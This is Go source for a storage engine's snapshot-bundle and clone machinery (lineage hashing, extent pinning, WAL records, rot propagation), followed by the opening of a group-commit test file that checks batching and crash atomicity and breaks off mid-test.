	ErrNoSuchBundle = errors.New("store: no such snapshot bundle")
	// ErrNotCommitted is returned by SnapshotBundle when a requested object
	// still has uncommitted (dirty) state after the capture checkpoint —
	// the caller must quiesce writers before baking a bundle.
	ErrNotCommitted = errors.New("store: object has uncommitted state")
	// ErrCloneExists is returned when the clone destination ID already
	// holds an object.
	ErrCloneExists = errors.New("store: clone destination already exists")
)

// BundleObject is one captured object: the committed home extent it pins
// and the canonical label it carried at capture time.
type BundleObject struct {
	ID     uint64
	Off    int64
	Size   int64
	CRC    uint32
	HasCRC bool
	Label  []byte // canonical label.AppendBinary bytes, nil if unlabeled
}

// Bundle is a registered snapshot bundle.  Objects is immutable after
// registration; rotted is guarded by metaMu like the bundle table itself.
type Bundle struct {
	Lineage uint64
	Name    string
	// Epoch is the metadata epoch current at capture; the checkpoint
	// retention floor keeps the WAL generation holding this bundle's record
	// until two committed snapshots contain the bundle.
	Epoch   uint64
	Objects []BundleObject

	rotted map[uint64]bool // bundle object IDs whose shared extent rotted
}

func (b *Bundle) object(id uint64) *BundleObject {
	for i := range b.Objects {
		if b.Objects[i].ID == id {
			return &b.Objects[i]
		}
	}
	return nil
}

// BundleInfo is the externally visible summary of a registered bundle.
type BundleInfo struct {
	Lineage uint64
	Name    string
	Epoch   uint64
	Objects int
	// Bytes is the total size of the pinned extents.
	Bytes int64
	// Rotted counts bundle objects whose shared extent failed verification.
	Rotted int
}

// bundleLineage derives the deterministic lineage ID: an FNV-1a hash over
// the bundle name and every captured object's identity, size, and contents
// CRC.  Offsets are deliberately excluded so lineage identifies content,
// not physical layout.
func bundleLineage(name string, objs []BundleObject) uint64 {
	h := fnv.New64a()
	h.Write([]byte(name))
	var b [8]byte
	for _, o := range objs {
		binary.LittleEndian.PutUint64(b[:], o.ID)
		h.Write(b[:])
		binary.LittleEndian.PutUint64(b[:], uint64(o.Size))
		h.Write(b[:])
		crcField := uint64(0)
		if o.HasCRC {
			crcField = objCRCValid | uint64(o.CRC)
		}
		binary.LittleEndian.PutUint64(b[:], crcField)
		h.Write(b[:])
		h.Write(o.Label)
	}
	v := h.Sum64()
	if v == 0 {
		v = 1 // 0 is reserved for "no bundle"
	}
	return v
}

// SnapshotBundle captures the given objects as a named immutable bundle and
// returns its lineage ID.  It checkpoints first so every object has a
// committed home extent, pins those extents against reclamation, and makes
// the bundle durable with a WAL bundle record.  Capturing the same content
// under the same name is idempotent and returns the same lineage.
func (s *Store) SnapshotBundle(name string, ids []uint64) (uint64, error) {
	if err := s.Checkpoint(); err != nil {
		return 0, err
	}
	lineage, err := s.captureBundle(name, ids)
	if err != nil {
		if errors.Is(err, wal.ErrFull) {
			// No log room for the bundle record: a checkpoint persists the
			// registered bundle in the metadata snapshot instead.
			return lineage, s.Checkpoint()
		}
		return 0, err
	}
	return lineage, nil
}

// captureBundle is SnapshotBundle's body under the checkpoint gate.
func (s *Store) captureBundle(name string, ids []uint64) (uint64, error) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return 0, ErrClosed
	}
	sorted := append([]uint64(nil), ids...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	objs := make([]BundleObject, 0, len(sorted))
	var last uint64
	for i, id := range sorted {
		if i > 0 && id == last {
			continue
		}
		last = id
		// Entry state first (entry lock), extent second (metaMu) — the same
		// order Get's readHome path uses.
		var lblBytes []byte
		if e := s.shardOf(id).lookup(id); e != nil {
			e.mu.Lock()
			switch {
			case e.quar:
				e.mu.Unlock()
				return 0, &QuarantineError{ID: id, Detail: "cannot bundle a quarantined object"}
			case e.dead:
				e.mu.Unlock()
				return 0, fmt.Errorf("%w: object %d", ErrNoSuchObject, id)
			case e.dirty || e.ckpt:
				e.mu.Unlock()
				return 0, fmt.Errorf("%w: object %d", ErrNotCommitted, id)
			}
			if e.hasLbl {
				lblBytes = e.lbl.AppendBinary(nil)
			}
			e.mu.Unlock()
		}
		s.metaMu.RLock()
		off, ok := s.objMap.Get(btree.K1(id))
		size := s.objSizes[id]
		crc, hasCRC := s.objCRCs[id]
		s.metaMu.RUnlock()
		if !ok {
			return 0, fmt.Errorf("%w: object %d has no committed home", ErrNoSuchObject, id)
		}
		objs = append(objs, BundleObject{
			ID: id, Off: int64(off), Size: size, CRC: crc, HasCRC: hasCRC, Label: lblBytes,
		})
	}
	lineage := bundleLineage(name, objs)
	b := &Bundle{Lineage: lineage, Name: name, Objects: objs}
	s.metaMu.Lock()
	if _, exists := s.bundles[lineage]; exists {
		s.metaMu.Unlock()
		return lineage, nil
	}
	b.Epoch = s.metaEpoch
	s.bundles[lineage] = b
	s.metaMu.Unlock()
	s.allocMu.Lock()
	for i := range b.Objects {
		s.pinExtentLocked(b.Objects[i].Off)
	}
	s.allocMu.Unlock()
	s.c.bundleSnapshots.Add(1)
	rec := wal.Record{ObjectID: lineage, Data: encodeBundleBody(b), Bundle: true}
	if err := s.l.Append(rec); err == nil {
		err = s.l.Commit()
		if err == nil {
			return lineage, nil
		}
		if errors.Is(err, wal.ErrFull) {
			// The record stays pending; the caller's checkpoint fallback
			// persists the bundle, and a later commit of the record replays
			// idempotently.
			return lineage, err
		}
		return lineage, err
	} else if errors.Is(err, wal.ErrTooLarge) {
		// A bundle too large for any log: persist via checkpoint only.
		return lineage, wal.ErrFull
	} else {
		return lineage, err
	}
}

// pinExtentLocked adds one reference to an extent; the caller holds allocMu.
// An absent entry means one ordinary owner, so the first share starts at 2.
func (s *Store) pinExtentLocked(off int64) {
	if n, ok := s.extRefs[off]; ok {
		s.extRefs[off] = n + 1
	} else {
		s.extRefs[off] = 2
	}
}

// CloneObject creates object dstID as an O(metadata) clone of srcID out of
// the bundle named by lineage: the clone aliases the source's committed
// extent (no data is read or written) and inherits the bundle's recorded
// label.  The clone is made durable by a small WAL clone record; its first
// rewrite gives it a private extent through the normal checkpoint path.
func (s *Store) CloneObject(lineage, srcID, dstID uint64) error {
	return s.cloneObject(lineage, srcID, dstID, nil)
}

// CloneObjectLabeled is CloneObject with the clone's label overridden —
// the hook the kernel's category-remapping clone path uses.
func (s *Store) CloneObjectLabeled(lineage, srcID, dstID uint64, lbl label.Label) error {
	return s.cloneObject(lineage, srcID, dstID, lbl.AppendBinary(nil))
}

func (s *Store) cloneObject(lineage, srcID, dstID uint64, lblBytes []byte) error {
	err := s.cloneObjectLocked(lineage, srcID, dstID, lblBytes)
	if errors.Is(err, wal.ErrFull) {
		// The alias is installed in memory; a checkpoint persists it in the
		// object map when the log has no room for the clone record.
		return s.Checkpoint()
	}
	return err
}

func (s *Store) cloneObjectLocked(lineage, srcID, dstID uint64, lblBytes []byte) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ErrClosed
	}
	sh := s.shardOf(dstID)
	e := sh.getOrCreate(dstID)
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.cached || e.dirty {
		return fmt.Errorf("%w: object %d", ErrCloneExists, dstID)
	}
	s.metaMu.Lock()
	b := s.bundles[lineage]
	if b == nil {
		s.metaMu.Unlock()
		return fmt.Errorf("%w: lineage %#x", ErrNoSuchBundle, lineage)
	}
	bo := b.object(srcID)
	if bo == nil {
		s.metaMu.Unlock()
		return fmt.Errorf("%w: object %d not captured by bundle %q", ErrNoSuchObject, srcID, b.Name)
	}
	if b.rotted[srcID] {
		s.metaMu.Unlock()
		return &QuarantineError{ID: srcID,
			Detail: fmt.Sprintf("bundle %q extent at offset %d failed verification; refusing to clone", b.Name, bo.Off)}
	}
	if _, ok := s.objMap.Get(btree.K1(dstID)); ok {
		s.metaMu.Unlock()
		return fmt.Errorf("%w: object %d", ErrCloneExists, dstID)
	}
	if lblBytes == nil {
		lblBytes = bo.Label
	}
	s.objMap.Put(btree.K1(dstID), uint64(bo.Off))
	s.objSizes[dstID] = bo.Size
	if bo.HasCRC {
		s.objCRCs[dstID] = bo.CRC
	} else {
		delete(s.objCRCs, dstID)
	}
	s.metaMu.Unlock()
	s.allocMu.Lock()
	s.pinExtentLocked(bo.Off)
	s.allocMu.Unlock()
	e.dead, e.quar = false, false
	if len(lblBytes) > 0 {
		lbl, rest, derr := s.decodeLabel(lblBytes)
		if derr == nil && len(rest) == 0 {
			s.setLabel(sh, dstID, e, lbl)
		}
	} else {
		s.clearLabel(sh, dstID, e)
	}
	s.c.objectClones.Add(1)
	s.c.cloneBytesShared.Add(uint64(bo.Size))
	// The clone record is appended under the entry lock (like group-commit
	// seals), so replay order for dstID matches operation order.
	rec := wal.Record{
		ObjectID: dstID,
		Data:     encodeCloneBody(lineage, srcID, bo),
		Label:    append([]byte(nil), lblBytes...),
		Clone:    true,
	}
	if err := s.l.Append(rec); err != nil {
		return err
	}
	return s.l.Commit()
}

// DeleteBundle unregisters a bundle and releases its extent pins, then
// checkpoints: the metadata flip is what makes the deletion durable.  A
// crash before the checkpoint commits simply resurrects the bundle with its
// pins intact.
func (s *Store) DeleteBundle(lineage uint64) error {
	s.ckptMu.RLock()
	if s.closed {
		s.ckptMu.RUnlock()
		return ErrClosed
	}
	s.metaMu.Lock()
	b, ok := s.bundles[lineage]
	if !ok {
		s.metaMu.Unlock()
		s.ckptMu.RUnlock()
		return fmt.Errorf("%w: lineage %#x", ErrNoSuchBundle, lineage)
	}
	delete(s.bundles, lineage)
	s.metaMu.Unlock()
	for i := range b.Objects {
		s.vacateExtent(b.Objects[i].Off, b.Objects[i].Size)
	}
	s.ckptMu.RUnlock()
	return s.Checkpoint()
}

// Bundles returns a summary of every registered bundle, ascending by
// lineage ID.
func (s *Store) Bundles() []BundleInfo {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.metaMu.RLock()
	out := make([]BundleInfo, 0, len(s.bundles))
	for _, b := range s.bundles {
		out = append(out, s.bundleInfoLocked(b))
	}
	s.metaMu.RUnlock()
	sort.Slice(out, func(i, j int) bool { return out[i].Lineage < out[j].Lineage })
	return out
}

// BundleByLineage returns the summary of one bundle.
func (s *Store) BundleByLineage(lineage uint64) (BundleInfo, bool) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.metaMu.RLock()
	defer s.metaMu.RUnlock()
	b, ok := s.bundles[lineage]
	if !ok {
		return BundleInfo{}, false
	}
	return s.bundleInfoLocked(b), true
}

func (s *Store) bundleInfoLocked(b *Bundle) BundleInfo {
	info := BundleInfo{Lineage: b.Lineage, Name: b.Name, Epoch: b.Epoch,
		Objects: len(b.Objects), Rotted: len(b.rotted)}
	for i := range b.Objects {
		info.Bytes += b.Objects[i].Size
	}
	return info
}

// ValidateBundle checks a lineage ID at restore time: the bundle must be
// registered and none of its extents rotted.  This is the kernel's lineage
// gate before a golden-image clone.
func (s *Store) ValidateBundle(lineage uint64) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.metaMu.RLock()
	defer s.metaMu.RUnlock()
	b, ok := s.bundles[lineage]
	if !ok {
		return fmt.Errorf("%w: lineage %#x", ErrNoSuchBundle, lineage)
	}
	if len(b.rotted) > 0 {
		return &QuarantineError{ID: b.Lineage,
			Detail: fmt.Sprintf("bundle %q has %d rotted extents", b.Name, len(b.rotted))}
	}
	return nil
}

// bundleRetentionFloor returns the oldest WAL generation any live bundle's
// record may still be needed from: a bundle captured at epoch E has its
// record in generation E and enters the metadata snapshot at E+1, so the
// generation may be dropped only once two committed snapshots (E+1 and
// E+2) contain the bundle — i.e. once the finishing epoch reaches E+2.
// Returns ^uint64(0) when no bundle constrains reclamation.
func (s *Store) bundleRetentionFloor(finishEpoch uint64) uint64 {
	floor := ^uint64(0)
	s.metaMu.RLock()
	for _, b := range s.bundles {
		if b.Epoch+2 > finishEpoch && b.Epoch < floor {
			floor = b.Epoch
		}
	}
	s.metaMu.RUnlock()
	return floor
}

// propagateExtentRot spreads a contents-CRC failure at extent off to every
// referent: aliasing objects (other than skip, which the caller already
// handled) are quarantined, and bundle entries over the extent are marked
// rotted so clones of them fail typed.  Called with no locks held.
func (s *Store) propagateExtentRot(off int64, skip uint64) {
	var ids []uint64
	s.metaMu.Lock()
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		if int64(v) == off && k[0] != skip {
			ids = append(ids, k[0])
		}
		return true
	})
	for _, b := range s.bundles {
		for i := range b.Objects {
			if b.Objects[i].Off == off {
				if b.rotted == nil {
					b.rotted = make(map[uint64]bool)
				}
				b.rotted[b.Objects[i].ID] = true
			}
		}
	}
	s.metaMu.Unlock()
	for _, id := range ids {
		e := s.shardOf(id).getOrCreate(id)
		e.mu.Lock()
		// A resident or rewritten copy supersedes the damaged extent.
		if !e.cached && !e.dirty && !e.dead {
			s.quarantine(id, e, fmt.Sprintf("shares rotted extent at offset %d", off))
		}
		e.mu.Unlock()
	}
}

// homeOffset returns the object's committed home-extent offset.
func (s *Store) homeOffset(id uint64) (int64, bool) {
	s.metaMu.RLock()
	off, ok := s.objMap.Get(btree.K1(id))
	s.metaMu.RUnlock()
	return int64(off), ok
}

// ---------------------------------------------------------------------------
// Serialization: WAL records and the metadata bundle section share one body
// codec.
// ---------------------------------------------------------------------------

// cloneBodySize is the fixed payload of a WAL clone record: lineage,
// source ID, extent offset, extent size, CRC field.
const cloneBodySize = 40

func encodeCloneBody(lineage, srcID uint64, bo *BundleObject) []byte {
	buf := make([]byte, 0, cloneBodySize)
	buf = appendU64(buf, lineage)
	buf = appendU64(buf, srcID)
	buf = appendU64(buf, uint64(bo.Off))
	buf = appendU64(buf, uint64(bo.Size))
	crcField := uint64(0)
	if bo.HasCRC {
		crcField = objCRCValid | uint64(bo.CRC)
	}
	buf = appendU64(buf, crcField)
	return buf
}

// encodeBundleBody serializes one bundle (without its lineage, which rides
// in the WAL record's object-ID field or the section's per-bundle prefix).
func encodeBundleBody(b *Bundle) []byte {
	var buf []byte
	buf = appendU64(buf, uint64(len(b.Name)))
	buf = append(buf, b.Name...)
	buf = appendU64(buf, b.Epoch)
	buf = appendU64(buf, uint64(len(b.Objects)))
	for i := range b.Objects {
		o := &b.Objects[i]
		buf = appendU64(buf, o.ID)
		buf = appendU64(buf, uint64(o.Off))
		buf = appendU64(buf, uint64(o.Size))
		crcField := uint64(0)
		if o.HasCRC {
			crcField = objCRCValid | uint64(o.CRC)
		}
		buf = appendU64(buf, crcField)
		buf = appendU64(buf, uint64(len(o.Label)))
		buf = append(buf, o.Label...)
	}
	return buf
}

// decodeBundleBody is encodeBundleBody's inverse; structural violations
// come back as CorruptError.
func decodeBundleBody(lineage uint64, buf []byte, area string, areaOff int64) (*Bundle, error) {
	r := &sectionReader{buf: buf, off: areaOff, area: area}
	nameLen, err := r.u64()
	if err != nil {
		return nil, err
	}
	if nameLen > uint64(len(r.buf)) {
		return nil, &CorruptError{Area: area, Offset: areaOff, Detail: "bundle name overruns payload"}
	}
	name := string(r.buf[:nameLen])
	r.buf = r.buf[nameLen:]
	epoch, err := r.u64()
	if err != nil {
		return nil, err
	}
	n, err := r.u64()
	if err != nil {
		return nil, err
	}
	b := &Bundle{Lineage: lineage, Name: name, Epoch: epoch}
	for i := uint64(0); i < n; i++ {
		id, err := r.u64()
		if err != nil {
			return nil, err
		}
		off, err := r.u64()
		if err != nil {
			return nil, err
		}
		size, err := r.u64()
		if err != nil {
			return nil, err
		}
		crcField, err := r.u64()
		if err != nil {
			return nil, err
		}
		lblLen, err := r.u64()
		if err != nil {
			return nil, err
		}
		if lblLen > uint64(len(r.buf)) {
			return nil, &CorruptError{Area: area, Offset: areaOff, Detail: "bundle label overruns payload"}
		}
		var lbl []byte
		if lblLen > 0 {
			lbl = append([]byte(nil), r.buf[:lblLen]...)
		}
		r.buf = r.buf[lblLen:]
		b.Objects = append(b.Objects, BundleObject{
			ID: id, Off: int64(off), Size: int64(size),
			CRC: uint32(crcField), HasCRC: crcField&objCRCValid != 0, Label: lbl,
		})
	}
	return b, nil
}

// replayBundleRecord re-registers a bundle from a WAL record during Open
// (single-threaded); extent pins and segment live counts are rebuilt once
// by the recomputeSegLive pass that follows replay.
func (s *Store) replayBundleRecord(r wal.Record) error {
	if _, exists := s.bundles[r.ObjectID]; exists {
		return nil // already in the loaded snapshot
	}
	b, err := decodeBundleBody(r.ObjectID, r.Data, "wal", logOffset)
	if err != nil {
		return s.noteCorruption(fmt.Errorf("%w: replaying bundle %#x: %v", ErrCorrupt, r.ObjectID, err))
	}
	s.bundles[r.ObjectID] = b
	return nil
}

// replayCloneRecord re-applies a clone alias from a WAL record during Open
// (single-threaded).  A clone already present in the loaded snapshot is
// skipped; a clone whose bundle cannot be resolved — possible only after a
// deep metadata fallback — is quarantined rather than silently aliased.
func (s *Store) replayCloneRecord(r wal.Record, legacy bool) {
	if len(r.Data) != cloneBodySize {
		s.noteCorruption(fmt.Errorf("%w: clone record for object %d has %d-byte payload", ErrCorrupt, r.ObjectID, len(r.Data)))
		return
	}
	lineage := binary.LittleEndian.Uint64(r.Data[0:])
	srcID := binary.LittleEndian.Uint64(r.Data[8:])
	off := int64(binary.LittleEndian.Uint64(r.Data[16:]))
	size := int64(binary.LittleEndian.Uint64(r.Data[24:]))
	crcField := binary.LittleEndian.Uint64(r.Data[32:])
	dst := r.ObjectID
	sh := s.shardOf(dst)
	e := sh.getOrCreate(dst)
	if _, ok := s.objMap.Get(btree.K1(dst)); ok {
		// The loaded snapshot already placed this object (the clone itself,
		// or a later rewrite); the record is stale.
		return
	}
	b := s.bundles[lineage]
	if b == nil || b.object(srcID) == nil || b.object(srcID).Off != off {
		s.noteCorruption(fmt.Errorf("%w: clone record for object %d references unresolvable bundle %#x", ErrCorrupt, dst, lineage))
		s.quarantine(dst, e, "clone source bundle lost by metadata fallback")
		return
	}
	s.objMap.Put(btree.K1(dst), uint64(off))
	s.objSizes[dst] = size
	if crcField&objCRCValid != 0 {
		s.objCRCs[dst] = uint32(crcField)
	}
	e.dead, e.quar, e.cached, e.dirty = false, false, false, false
	switch {
	case len(r.Label) > 0:
		lbl, rest, derr := s.decodeLabel(r.Label)
		if derr == nil && len(rest) == 0 {
			s.setLabel(sh, dst, e, lbl)
		} else {
			s.noteCorruption(fmt.Errorf("%w: replaying label of clone %d: %v", ErrCorrupt, dst, derr))
		}
	case !legacy:
		s.clearLabel(sh, dst, e)
	}
}

// encodeBundlesSection serializes the bundle table for the metadata
// snapshot: [count] then per bundle [lineage][bodyLen][body].
func (s *Store) encodeBundlesSection() []byte {
	s.metaMu.RLock()
	lineages := make([]uint64, 0, len(s.bundles))
	for l := range s.bundles {
		lineages = append(lineages, l)
	}
	sort.Slice(lineages, func(i, j int) bool { return lineages[i] < lineages[j] })
	var buf []byte
	buf = appendU64(buf, uint64(len(lineages)))
	for _, l := range lineages {
		body := encodeBundleBody(s.bundles[l])
		buf = appendU64(buf, l)
		buf = appendU64(buf, uint64(len(body)))
		buf = append(buf, body...)
	}
	s.metaMu.RUnlock()
	return buf
}

func (s *Store) decodeBundlesSection(buf []byte, areaOff int64) error {
	r := &sectionReader{buf: buf, off: areaOff, area: "metadata"}
	n, err := r.u64()
	if err != nil {
		return err
	}
	for i := uint64(0); i < n; i++ {
		lineage, err := r.u64()
		if err != nil {
			return err
		}
		bodyLen, err := r.u64()
		if err != nil {
			return err
		}
		if bodyLen > uint64(len(r.buf)) {
			return &CorruptError{Area: "metadata", Offset: areaOff, Detail: "bundle body overruns section"}
		}
		b, derr := decodeBundleBody(lineage, r.buf[:bodyLen], "metadata", areaOff)
		if derr != nil {
			return derr
		}
		r.buf = r.buf[bodyLen:]
		s.bundles[lineage] = b
	}
	return nil
}

// BundleStats is the bundle/clone accounting snapshot.
type BundleStats struct {
	// Bundles and BundleObjects describe the registered bundle table;
	// PinnedBytes is the total size of bundle-pinned extents.
	Bundles       int
	BundleObjects int
	PinnedBytes   int64
	// SharedExtents is the number of extents currently referenced more than
	// once (clone aliases plus bundle pins).
	SharedExtents int
	// Snapshots and Clones count SnapshotBundle and CloneObject calls that
	// succeeded; CloneBytesShared is the total size of extents aliased by
	// clones (bytes NOT copied thanks to sharing).
	Snapshots        uint64
	Clones           uint64
	CloneBytesShared uint64
}

// BundleStats returns bundle and clone accounting.
func (s *Store) BundleStats() BundleStats {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	st := BundleStats{
		Snapshots:        s.c.bundleSnapshots.Load(),
		Clones:           s.c.objectClones.Load(),
		CloneBytesShared: s.c.cloneBytesShared.Load(),
	}
	s.metaMu.RLock()
	st.Bundles = len(s.bundles)
	for _, b := range s.bundles {
		st.BundleObjects += len(b.Objects)
		for i := range b.Objects {
			st.PinnedBytes += b.Objects[i].Size
		}
	}
	s.metaMu.RUnlock()
	s.allocMu.Lock()
	st.SharedExtents = len(s.extRefs)
	s.allocMu.Unlock()
	return st
}
