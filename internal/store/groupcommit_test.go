package store

// Group-commit tests: deterministic batching (N concurrent syncs → at most
// ⌈N/batch⌉ write-ahead log commits, proven by wal.Stats counters), batch
// atomicity across crash points between the batch append and the header
// commit, partial-destage reseal on a write-cached disk, and a -race stress
// mix of every store operation.  The hold/release test hook pauses the
// committer so concurrent syncers pile up deterministically instead of
// depending on scheduler timing.

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"testing"
	"time"

	"histar/internal/disk"
	"histar/internal/label"
	"histar/internal/vclock"
)

// launchHeldSyncs starts one SyncObject goroutine per id against a held
// committer and waits until every record is sealed and queued.
func launchHeldSyncs(t *testing.T, s *Store, ids []uint64) (*sync.WaitGroup, []error) {
	t.Helper()
	var wg sync.WaitGroup
	errs := make([]error, len(ids))
	for i, id := range ids {
		wg.Add(1)
		go func(i int, id uint64) {
			defer wg.Done()
			errs[i] = s.SyncObject(id)
		}(i, id)
	}
	deadline := time.Now().Add(10 * time.Second)
	for s.groupQueueLen() < len(ids) {
		if time.Now().After(deadline) {
			t.Fatalf("only %d of %d syncs queued", s.groupQueueLen(), len(ids))
		}
		time.Sleep(100 * time.Microsecond)
	}
	return &wg, errs
}

func TestGroupCommitBatchesConcurrentSyncs(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	const batchRecs = 8
	s, err := Format(d, Options{LogSize: 8 << 20, GroupCommitRecords: batchRecs})
	if err != nil {
		t.Fatal(err)
	}
	const n = 32
	payload := bytes.Repeat([]byte("g"), 512)
	ids := make([]uint64, n)
	for i := range ids {
		ids[i] = uint64(i)
		if err := s.Put(ids[i], payload); err != nil {
			t.Fatal(err)
		}
	}
	s.holdGroupCommit()
	wg, errs := launchHeldSyncs(t, s, ids)
	before := s.WALStats().Commits
	s.releaseGroupCommit()
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("sync %d: %v", i, err)
		}
	}
	commits := s.WALStats().Commits - before
	if want := uint64((n + batchRecs - 1) / batchRecs); commits == 0 || commits > want {
		t.Errorf("%d concurrent syncs took %d WAL commits, want 1..%d", n, commits, want)
	}
	gs := s.GroupCommitStats()
	if gs.Records != n || gs.MaxBatch != batchRecs {
		t.Errorf("group stats = %+v, want %d records in batches of ≤%d", gs, n, batchRecs)
	}
	if ws := s.WALStats(); ws.BatchRecords != n || ws.Appended != n {
		t.Errorf("wal stats = %+v", ws)
	}
	// The batched commits are real durability: crash and recover everything.
	d.Crash()
	s2, err := Open(d, Options{LogSize: 8 << 20})
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range ids {
		if got, err := s2.Get(id); err != nil || !bytes.Equal(got, payload) {
			t.Fatalf("object %d after crash: %v", id, err)
		}
	}
}

// TestSyncObjectsSingleThreadedBatching is the deterministic ring-batching
// guarantee: SyncObjects enqueues every record before awaiting any ticket,
// so a single caller with no concurrency help gets at most ⌈N/batch⌉ WAL
// commits — the property SyncObject-in-a-loop only approaches under high
// accidental concurrency.
func TestSyncObjectsSingleThreadedBatching(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	const batchRecs = 8
	s, err := Format(d, Options{LogSize: 8 << 20, GroupCommitRecords: batchRecs})
	if err != nil {
		t.Fatal(err)
	}
	const n = 40
	payload := bytes.Repeat([]byte("r"), 256)
	ids := make([]uint64, n)
	for i := range ids {
		ids[i] = uint64(i + 1)
		if err := s.Put(ids[i], payload); err != nil {
			t.Fatal(err)
		}
	}
	// An id with nothing in memory is legal: its on-disk copy is current.
	ids[n-1] = 1 << 40

	before := s.WALStats()
	errs := s.SyncObjects(ids)
	for i, err := range errs {
		if err != nil {
			t.Fatalf("SyncObjects[%d] (id %d): %v", i, ids[i], err)
		}
	}
	after := s.WALStats()
	commits := after.Commits - before.Commits
	want := uint64((n + batchRecs - 1) / batchRecs)
	if commits == 0 || commits > want {
		t.Errorf("%d single-threaded grouped syncs took %d WAL commits, want 1..%d", n, commits, want)
	}
	if got := after.BatchRecords - before.BatchRecords; got != n-1 {
		t.Errorf("batch records = %d, want %d", got, n-1)
	}
	if after.BatchBytes == before.BatchBytes {
		t.Error("BatchBytes did not advance for batched appends")
	}
	if gs := s.GroupCommitStats(); gs.MaxBatch != batchRecs {
		t.Errorf("max batch = %d, want full batches of %d", gs.MaxBatch, batchRecs)
	}

	// Contents must actually be durable: recover from the disk image.
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(d, Options{})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s2.Get(ids[0])
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("object 1 after recovery = (%d bytes, %v)", len(got), err)
	}
}

func TestGroupCommitByteBoundSplitsBatches(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, &vclock.Clock{})
	// Each record is ~2 KB; a 5 KB byte bound admits two records per batch.
	s, err := Format(d, Options{LogSize: 8 << 20, GroupCommitBytes: 5 << 10})
	if err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte("b"), 2048)
	ids := []uint64{1, 2, 3, 4, 5, 6}
	for _, id := range ids {
		if err := s.Put(id, payload); err != nil {
			t.Fatal(err)
		}
	}
	s.holdGroupCommit()
	wg, errs := launchHeldSyncs(t, s, ids)
	s.releaseGroupCommit()
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	if gs := s.GroupCommitStats(); gs.MaxBatch > 2 {
		t.Errorf("byte bound ignored: max batch %d records (%+v)", gs.MaxBatch, gs)
	}
}

// midBatchRig formats a store on a write-through fault disk with committed
// old states for each id, then buffers new states, ready for a held batch.
func midBatchRig(t *testing.T, ids []uint64, oldData, newData []byte, lbl label.Label) (*Store, *disk.FaultDisk) {
	t.Helper()
	base := disk.New(disk.Params{Sectors: crashSectors, WriteCache: false}, &vclock.Clock{})
	fd := disk.NewFaultDisk(base)
	s, err := Format(fd, crashOpts)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range ids {
		if err := s.PutLabeled(id, lbl, oldData); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	for _, id := range ids {
		if err := s.PutLabeled(id, lbl, newData); err != nil {
			t.Fatal(err)
		}
	}
	return s, fd
}

// TestGroupCommitCrashMidBatch arms a fault at every write boundary (and
// torn midpoint) of a multi-record batch commit — including the gap between
// the batch body write and the header update — and checks batch atomicity:
// recovery sees either every ticket-holder's prior committed state or every
// holder's new state, never a mix, because the whole batch becomes durable
// at one header flip.
func TestGroupCommitCrashMidBatch(t *testing.T) {
	ids := []uint64{3, 9, 17, 25, 33, 41}
	oldData := bytes.Repeat([]byte("o"), 900)
	newData := bytes.Repeat([]byte("n"), 1100)
	lbl := label.New(label.L1, label.P(label.Category(5), label.L3))

	// Fault-free pass: learn the write boundaries of exactly the batch
	// commit (everything after the held queue is released).
	s, fd := midBatchRig(t, ids, oldData, newData, lbl)
	fd.Arm(-1, disk.FaultTorn)
	s.holdGroupCommit()
	wg, errs := launchHeldSyncs(t, s, ids)
	preBounds := fd.WriteBounds() // sealing queues records; no writes yet
	s.releaseGroupCommit()
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	bounds := fd.WriteBounds()
	if len(bounds) <= len(preBounds) {
		t.Fatal("batch commit issued no writes")
	}
	start := int64(0)
	if len(preBounds) > 0 {
		start = preBounds[len(preBounds)-1]
	}
	points := crashPoints(bounds[len(preBounds):])

	for _, mode := range []disk.FaultMode{disk.FaultTorn, disk.FaultOmit, disk.FaultFlip} {
		for _, pt := range points {
			if pt < start {
				continue // before the batch: covered by the main harness
			}
			s, fd := midBatchRig(t, ids, oldData, newData, lbl)
			fd.Arm(pt, mode)
			s.holdGroupCommit()
			wg, errs := launchHeldSyncs(t, s, ids)
			s.releaseGroupCommit()
			wg.Wait()
			point := fmt.Sprintf("mid-batch %v@%d", mode, pt)
			crashed := false
			for _, err := range errs {
				if err != nil && !errors.Is(err, disk.ErrFault) {
					t.Fatalf("%s: non-fault sync error: %v", point, err)
				}
				crashed = crashed || err != nil
			}
			s2, err := Open(fd.Inner(), crashOpts)
			if err != nil {
				t.Fatalf("%s: recovery: %v", point, err)
			}
			sawOld, sawNew := false, false
			for _, id := range ids {
				got, err := s2.Get(id)
				if err != nil {
					t.Fatalf("%s: Get(%d): %v", point, id, err)
				}
				switch {
				case bytes.Equal(got, oldData):
					sawOld = true
				case bytes.Equal(got, newData):
					sawNew = true
				default:
					t.Fatalf("%s: object %d recovered %d bytes, neither old nor new", point, id, len(got))
				}
				if l, ok := s2.Label(id); !ok || !l.Equal(lbl) {
					t.Fatalf("%s: object %d label = %v, %v", point, id, l, ok)
				}
			}
			if sawOld && sawNew {
				t.Fatalf("%s: batch atomicity violated: recovered a mix of old and new states", point)
			}
			if !crashed && sawOld {
				t.Fatalf("%s: every sync reported success but old states recovered", point)
			}
